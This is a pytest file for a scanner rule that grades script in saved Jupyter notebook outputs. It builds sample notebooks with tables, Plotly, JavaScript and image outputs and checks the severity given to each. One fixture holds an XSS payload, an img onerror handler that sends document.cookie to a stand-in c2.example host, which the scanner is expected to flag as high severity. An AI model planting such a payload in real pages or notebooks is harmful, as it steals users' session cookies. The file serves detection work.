"""Saved notebook outputs that run script in the reader's browser (MLS-NBK-001)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from mlsec_dagster import scan_path
from mlsec_dagster.engine.findings import Finding, Severity


def _cell(source: str, outputs: list[dict[str, Any]]) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": [source], "outputs": outputs}


def _html(html: str) -> dict[str, Any]:
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": [html], "text/plain": ["<obj>"]},
    }


def _notebook(path: Path, cells: list[dict[str, Any]]) -> Path:
    document = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3"}},
        "cells": cells,
    }
    path.write_text(json.dumps(document, indent=1), encoding="utf-8")
    return path


def _outputs(findings: list[Finding]) -> list[tuple[Severity, str]]:
    return sorted((f.severity, f.key.split("\x1f")[0]) for f in findings if f.rule_id == "MLS-NBK-001")


def _line_of(path: Path, needle: str) -> int:
    """The line of the output object that holds ``needle`` (its opening brace)."""
    lines = path.read_text().splitlines()
    hit = next(i for i, line in enumerate(lines) if needle in line)
    return next(i for i in range(hit, -1, -1) if lines[i].strip() == "{") + 1


def test_scripts_in_outputs_are_graded_by_what_they_do(tmp_path: Path) -> None:
    table = "<table class='dataframe'><tr><td>1</td></tr></table>"
    plotly = (
        "<div id='p'></div><script type='text/javascript'>require(['plotly'], function(Plotly){})</script>"
    )
    beacon = "<img src=x onerror=\"fetch('https://c2.example/?c='+document.cookie)\">"
    path = _notebook(
        tmp_path / "eda.ipynb",
        [
            _cell("df.head()", [_html(table)]),
            _cell("fig.show()", [_html(plotly)]),
            _cell("display(HTML(x))", [_html(beacon)]),
            _cell("Javascript(js)", [{"output_type": "display_data", "metadata": {},
                                      "data": {"application/javascript": ["console.log('hi')"]}}]),
            _cell("plt.plot(x)", [{"output_type": "display_data", "metadata": {},
                                   "data": {"image/png": "iVBORw0KGgo=", "text/plain": ["<Figure>"]}}]),
        ],
    )  # fmt: skip
    findings = scan_path(path, root=tmp_path).findings
    assert _outputs(findings) == [
        (Severity.LOW, "cell 2"),
        (Severity.MEDIUM, "cell 4"),
        (Severity.HIGH, "cell 3"),
    ]
    high = next(f for f in findings if f.rule_id == "MLS-NBK-001" and f.severity == Severity.HIGH)
    assert high.location.line == _line_of(path, "onerror")
    assert "document.cookie" in high.message or "fetch" in high.message


def test_clean_outputs_and_broken_notebooks_raise_no_output_findings(tmp_path: Path) -> None:
    _notebook(tmp_path / "clean.ipynb", [_cell("df.describe()", [_html("<b>bold</b> <i>text</i>")])])
    (tmp_path / "broken.ipynb").write_text('{"cells": [', encoding="utf-8")
    findings = scan_path(tmp_path, root=tmp_path).findings
    assert _outputs(findings) == []
    assert any(f.rule_id == "MLS-DEP-030" and f.path == "broken.ipynb" for f in findings)
